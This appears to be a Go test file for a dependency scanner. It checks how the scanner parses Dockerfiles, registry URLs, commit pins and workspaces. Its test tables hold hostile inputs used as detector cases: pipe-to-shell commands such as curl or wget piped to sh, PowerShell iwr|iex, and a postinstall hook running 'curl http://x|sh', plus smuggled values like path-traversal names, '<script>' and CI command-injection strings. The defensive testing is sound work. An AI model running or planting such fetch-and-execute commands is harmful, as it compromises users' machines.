package sca

import (
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/reevehq/reeve/internal/finding"
)

func TestBaseImages_whatIsReadOfADockerfile(t *testing.T) {
	const text = "\ufeff# comment\n# escape=`\nARG V=1.2\nARG NAME=\"debian\"\nARG UNKNOWN\nFROM --platform=linux/amd64 `\n# between\n  ${NAME}:${V:-9} AS Build\n" +
		"FROM ${UNKNOWN:-alpine}:3 as other\nFROM build\nFROM $UNKNOWN\nFROM ${UNKNOWN}/x:1\nFROM scratch\nRUN cat <<-'EOF' <<B >/x && echo <<<FROM\nFROM a:1\n\tEOF\nFROM b:1\nB\n" +
		"FROM localhost:5000/team/app:1.0@sha256:aa\nCOPY --from=0 / /\nCOPY --from=other / /\nCOPY --chown=1 --from=nginx:1 /a /b\nfrom UPPER:1\n"
	want := []baseImage{{"debian", "1.2", "", 6}, {"alpine", "3", "", 9}, {"localhost:5000/team/app", "1.0", "sha256:aa", 19}, {"nginx", "1", "", 22}, {"UPPER", "1", "", 23}}
	if diff := cmp.Diff(want, readBaseImages([]byte(text)), cmp.AllowUnexported(baseImage{})); diff != "" {
		t.Error(diff)
	}
}

func FuzzBaseImages(f *testing.F) {
	f.Add([]byte("ARG A=b\nFROM ${A:-c}:1 AS x\nCOPY --from=y:1 a b\nRUN <<EOF\nFROM z\nEOF\n"))
	f.Add([]byte("FROM ${${A}}\nFROM $\nFROM a@b@c:d/e\\\n"))
	f.Fuzz(func(t *testing.T, data []byte) {
		for _, b := range readBaseImages(data) {
			if b.line < 1 || b.line > 1+strings.Count(string(data), "\n") || strings.Contains(b.name, "$") {
				t.Errorf("%+v", b)
			}
		}
	})
}

func TestAddress_forms(t *testing.T) {
	for text, want := range map[string]address{
		"https://Registry.npmjs.org/a/-/a.tgz":                  {"https", "registry.npmjs.org", "/a/-/a.tgz"},
		"registry+https://github.com/rust-lang/crates.io-index": {"https", "github.com", "/rust-lang/crates.io-index"},
		"git+ssh://git@github.com/acme/tool.git#abc":            {"ssh", "github.com", "/acme/tool.git"},
		"git@github.com:acme/tool.git":                          {"ssh", "github.com", "/acme/tool.git"},
		"git+git@github.com:acme/tool.git":                      {"ssh", "github.com", "/acme/tool.git"},
		"sparse+http://[::1]:8080/index/":                       {"http", "[::1]:8080", "/index/"},
		"./folder":                                              {},
		"name":                                                  {},
		"https://":                                              {},
		"http://a b/":                                           {},
		"https://user@evil.example@registry.npmjs.org.example/a": {"https", "registry.npmjs.org.example", "/a"},
	} {
		got, ok := addressOf(text)
		if got != want || ok != (want != address{}) {
			t.Errorf("%s: %+v %t, want %+v", text, got, ok, want)
		}
	}
	root, _ := addressOf("https://packages.example.com/npm/")
	for text, want := range map[string]bool{
		"https://packages.example.com/npm/a.tgz": true, "https://packages.example.com/npm": true, "https://packages.example.com/npm/": true, "https://packages.example.com/npmx/a.tgz": false,
		"https://packages.example.com.evil.example/npm/a.tgz": false, "http://packages.example.com/npm/a.tgz": false, "https://packages.example.com/": false, "ssh://git@packages.example.com/npm/a": true,
	} {
		a, _ := addressOf(text)
		if a.below(root) != want {
			t.Errorf("%s below the root: %t", text, !want)
		}
	}
	for text, want := range map[string]bool{"http://localhost:4873/": true, "http://127.0.0.1/": true, "http://[::1]:1/": true, "http://0.0.0.0/": true, "http://10.0.0.1/": false, "http://localhost.example/": false} {
		a, _ := addressOf(text)
		if a.isHere() != want {
			t.Errorf("%s here: %t", text, !want)
		}
	}
}

func TestCommitIn_whatPinsAnOrigin(t *testing.T) {
	commit := strings.Repeat("0123456789abcdef", 3)[:40]
	for origin, want := range map[string]bool{
		"git+https://github.com/a/b.git#" + commit: true, "git+https://github.com/a/b.git@" + commit: true, "git+https://github.com/a/b?rev=" + commit: true, "git+https://github.com/a/b#" + commit[:8]: true,
		"git+ssh://git@github.com/a/b.git@v1.0": false, "git+https://github.com/a/b.git#semver:^1": false, "git+https://github.com/a/b.git": false, "git+https://github.com/a/b?branch=main": false,
		"https://codeload.github.com/a/b/tar.gz/" + commit: true, "https://github.com/a/b/archive/" + commit + ".zip": true, "https://registry.npmjs.org/a/-/a-1.0.0.tgz": false,
		"git+https://github.com/a/b.git@main#subdirectory=x": false, "git+https://github.com/a/b.git@" + commit + "#subdirectory=x": true,
	} {
		if commitIn(origin) != want {
			t.Errorf("%s: %t", origin, !want)
		}
	}
}

func TestScripts_fetchingAndNot(t *testing.T) {
	for script, want := range map[string]string{
		"curl -sL https://x.example | sudo bash -": "run", "wget -qO- https://x.example|sh": "run", "bash <(curl -s https://x.example)": "run", "sh -c \"$(curl -fsSL https://x.example)\"": "run",
		"eval `curl https://x.example`": "run", "node -e \"fetch('https://x.example').then(r=>r.text()).then(eval)\"": "run", "python3 -c \"import urllib.request as u;exec(u.urlopen('http://x.example').read())\"": "run",
		"powershell iex (iwr https://x.example)": "run", "powershell -c \"iwr https://x.example | iex\"": "run",
		"curl -O https://x.example/a.bin": "fetch", "cd lib && wget https://x.example/a.tgz": "fetch",
		"node install.js": "", "husky install": "", "npm run build && node -e \"console.log('done')\"": "", "tsc | cat": "", "echo https://x.example | cat": "", "prebuild-install || node-gyp rebuild": "", "patch-package": "", "node scripts/fetch.js": "",
	} {
		got := ""
		if runsFetched().MatchString(script) {
			got = "run"
		} else if onlyFetches().MatchString(script) {
			got = "fetch"
		}
		if got != want {
			t.Errorf("%s: %q, want %q", script, got, want)
		}
	}
}

// What is written in files comes back as it is, in values; it decides no path and stops nothing.
func TestChecks_hostileNames(t *testing.T) {
	e := newEngine(t, ownRules(t))
	files := map[string][]byte{
		"reeve.yaml":        []byte("dependencies:\n  registries: ['https://r.example/']\n  internal: ['[', '@a/*']\n  licences: {allow: ['MIT', '(('], deny: ['', 'x']}\n"),
		"package.json":      []byte(`{"name":"::error::<b>","private":true,"dependencies":{"../../x":"^1","<script>":"http://h.example/a.tgz","@a/b":"git+http://h/x","` + strings.Repeat("y", 500) + `":"1"},"scripts":{"postinstall":"curl http://x|sh"}}`),
		"package-lock.json": []byte(`{"lockfileVersion":3,"packages":{"":{},"node_modules/../../x":{"version":"1.0.0","resolved":"http://[::1","hasInstallScript":true,"deprecated":"::warning::"},"node_modules/::set-output name=x::y":{"version":"9","resolved":"http://%zz/","license":"<b>"}}}`),
		"Dockerfile":        []byte("FROM ::error::x\nFROM \x1b[31m:latest\nFROM <img>\n"),
		"requirements.txt":  []byte("--extra-index-url https://x.example/<b>\nabc\n"),
	}
	if found := lookAt(t, e, files); len(found) < 5 {
		t.Errorf("%d findings", len(found))
	}
}

// Large targets take time in proportion to their size.
func TestChecks_largeTargets(t *testing.T) {
	if testing.Short() {
		t.Skip("large")
	}
	const n = 10000
	var manifest, lock, sums, module strings.Builder
	manifest.WriteString("{\"name\":\"big\",\"private\":true,\"dependencies\":{\n\"d0\":\"^1.0.0\"")
	lock.WriteString(`{"lockfileVersion":3,"packages":{"":{"dependencies":{"d0":"1"}}`)
	module.WriteString("module example.com/big\ngo 1.22\nrequire (\n")
	for i := range n {
		fmt.Fprintf(&manifest, ",\n\"missing%d\":\"^1.0.0\"", i)
		fmt.Fprintf(&lock, ",\n\"node_modules/d%d\":{\"version\":\"1.0.0\",\"resolved\":\"http://h.example/d%d.tgz\",\"license\":\"X%d\",\"deprecated\":\"yes\",\"hasInstallScript\":true,\"dependencies\":{\"d%d\":\"1\"}}", i, i, i, (i+1)%n)
		fmt.Fprintf(&sums, "example.org/m%d v1.0.0 h1:%s=\n", i, strings.Repeat("a", 43))
		fmt.Fprintf(&module, "example.org/m%d v1.0.1\n", i)
	}
	files := map[string][]byte{
		"reeve.yaml":   []byte("dependencies:\n  internal: ['d*']\n  licences: {allow: [MIT], deny: [GPL-2.0-only]}\n"),
		"package.json": []byte(manifest.String() + "}}"), "package-lock.json": []byte(lock.String() + "}}"), "go.mod": []byte(module.String() + ")\n"), "go.sum": []byte(sums.String()),
	}
	start := time.Now()
	found := lookAt(t, newEngine(t, ownRules(t)), files)
	if took := time.Since(start); took > 30*time.Second {
		t.Errorf("took %v", took)
	} else {
		t.Logf("%d findings in %v", len(found), took)
	}
}

// The same fault has the same identity wherever its line has moved to and whatever else there is.
func TestChecks_identityStaysWhenLinesMove(t *testing.T) {
	e := newEngine(t, ownRules(t))
	look := func(before string) map[finding.Fingerprint]int {
		found := map[finding.Fingerprint]int{}
		for _, f := range lookAt(t, e, map[string][]byte{"Dockerfile": []byte(before + "FROM debian:latest\n"), "requirements.txt": []byte(before + "--index-url http://x.example/\nreqeusts==1\n")}) {
			found[f.Fingerprint] = f.Location.Region.StartLine
		}
		return found
	}
	first, moved := look(""), look("# a\n# b\n")
	if len(first) != 3 || len(moved) != 3 {
		t.Fatalf("%v, %v", first, moved)
	}
	for id, line := range first {
		if moved[id] != line+2 {
			t.Errorf("line %d is at %d", line, moved[id])
		}
	}
}

func TestWorkspaces_whoIsAMember(t *testing.T) {
	for _, c := range []struct {
		pattern, root, dir string
		hit, decided       bool
	}{
		{"packages/*", "", "packages/a", true, true}, {"packages/*", "", "packages/a/b", false, true}, {"packages/**", "", "packages/a/b", true, true}, {"packages/*/**", "ws", "ws/packages/a/b", true, true},
		{"**", "", "x/y", true, true}, {"./tools", "ws", "ws/tools", true, true}, {"{a,b}/*", "", "a/x", false, false}, {"a/**/b", "", "a/x/b", false, false}, {"[", "", "a", false, false},
	} {
		if hit, decided := matchesFolder(c.pattern, c.root, c.dir); hit != c.hit || decided != c.decided {
			t.Errorf("%s in %q of %q: %t, decided %t", c.dir, c.root, c.pattern, hit, decided)
		}
	}
}

func TestChecks_imagesAndInstalledPackages(t *testing.T) {
	e := newEngine(t, ownRules(t))
	found := lookAt(t, e, map[string][]byte{
		"reeve.yaml":                             []byte("dependencies:\n  internal: ['@acme/*']\n  licences: {deny: [GPL-3.0-only]}\n"),
		"app/node_modules/@acme/ui/package.json": []byte(`{"name":"@acme/ui","version":"1.0.0","license":"MIT"}`),
		"app/node_modules/b/package.json":        []byte(`{"name":"b","version":"1.0.0","license":"GPL-3.0"}`),
		"var/lib/dpkg/status":                    []byte("Package: bash\nStatus: install ok installed\nVersion: 5.2\nArchitecture: amd64\n\n"),
	})
	if len(found) != 1 || found[0].Rule != "licence-denied" || found[0].Component.Name != "b" {
		t.Errorf("%+v", found)
	}
}
